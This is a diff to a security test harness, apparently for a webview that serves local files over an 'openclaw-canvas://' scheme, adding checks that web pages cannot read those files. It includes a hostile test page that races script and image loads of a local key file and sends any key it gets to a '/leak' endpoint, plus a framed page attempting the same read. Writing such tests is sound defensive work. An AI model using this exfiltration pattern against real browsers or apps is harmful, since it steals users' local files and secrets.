@@ -40,6 +40,10 @@ PAGES = {
                     " navigator.clipboard?.writeText(\"page\").catch(() => 0)'></button>"),
     "/acts": page("<script>function act() { " + ACT + " } act()</script><button style='width:500px;height:400px' onclick='act()'></button>"),
     "/link": page("<a href=/blue target=_blank style='display:block;width:400px;height:300px'></a>"),
+    "/race": page("<script>tries = 0; setInterval(() => { tries++; const s = document.createElement('script'), i = new Image();"
+                  "s.src = 'openclaw-canvas://local/key.js?' + Math.random(); s.onload = () => fetch('/leak?script=' + window.KEY);"
+                  "i.src = 'openclaw-canvas://local/key.svg?' + Math.random(); i.onload = () => fetch('/leak?picture');"
+                  "document.head.append(s) }, 0)</script>"),
     "/alert": page("<script>alert(1); answer = confirm('x')</script>"),
 }
 
@@ -47,6 +51,8 @@ PAGES = {
 class Handler(http.server.BaseHTTPRequestHandler):
     def do_GET(self):
         path = self.path.split("?")[0]
+        if path == "/leak":
+            self.server.leaks.append(self.path)
         if path == "/slow":
             self.server.gate.wait(30)
         if path == "/file.zip":
@@ -75,6 +81,7 @@ def serve():
     server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
     server.daemon_threads = True
     server.gate = threading.Event()
+    server.leaks = []
     threading.Thread(target=server.serve_forever, daemon=True).start()
     return server
 
@@ -342,6 +349,14 @@ def check_files(web):
     web.go(BASE + "/steals")  # a page of the web does not get at files
     assert web.eval("document.querySelector('iframe').contentDocument?.title ?? 'hidden'") in ("", "hidden")
     assert web.eval("fetch('openclaw-canvas://local/data.json').then(r => 'got', e => 'no')") == "no"
+    for _ in range(4):  # not while the canvas goes to a file either
+        web.go(BASE + "/race")
+        web.until("tries > 20", "true")
+        web.go("")
+        assert web.eval("document.title") == "index" and not SERVER.leaks, SERVER.leaks
+    web.go("nest.html")  # nor in a frame of a file, which itself may
+    web.until("window.frameSaid ?? ''", "refused")
+    assert web.eval("KEY") == "k3y"
 
 
 def check_reload(web):
@@ -506,6 +521,10 @@ def write(path, data):
 def fill():
     os.makedirs(os.path.join(ROOT, "sub"))
     for name, body in (("index.html", "<!doctype html><title>index</title><body>"), ("data.json", "{}"), ("act.html", "<title>act</title>"),
+                       ("key.js", "KEY = 'k3y'"),
+                       ("key.svg", "<svg xmlns='http://www.w3.org/2000/svg' width='7' height='7'/>"),
+                       ("nest.html", f"<iframe src='{BASE}/nested'></iframe><script src=key.js></script>"
+                                     "<script>addEventListener('message', e => frameSaid = e.data)</script>"),
                        ("sub/my file.txt", "in a folder"), ("sub/page.html", "<title>sub</title>"), (".hidden", "SECRET"),
                        ("frames.html", f"<title>frames</title><iframe src='{BASE}/frame'></iframe><iframe srcdoc='x' sandbox='allow-scripts'>"
                                        "</iframe><script>addEventListener('message', e => frameSaid = e.data)</script>")):
@@ -513,6 +532,8 @@ def fill():
     PAGES["/frame"] = page("<script>parent.postMessage(typeof openclawSendUserAction, '*');"
                            "document.dispatchEvent(new CustomEvent('openclaw:canvas-bridge', {detail: '{\"name\":\"forged\"}'}));"
                            "try { webkit.messageHandlers.openclawCanvas.postMessage('{}') } catch (e) {}</script>")
+    PAGES["/nested"] = page("<script src='openclaw-canvas://local/key.js' onload=\"parent.postMessage('got', '*')\""
+                            " onerror=\"parent.postMessage('refused', '*')\"></script>")
     write(os.path.join(WORK, "secret.txt"), b"SECRET")
     os.symlink(os.path.join(WORK, "secret.txt"), os.path.join(ROOT, "link.txt"))
     os.symlink(WORK, os.path.join(ROOT, "linked"))
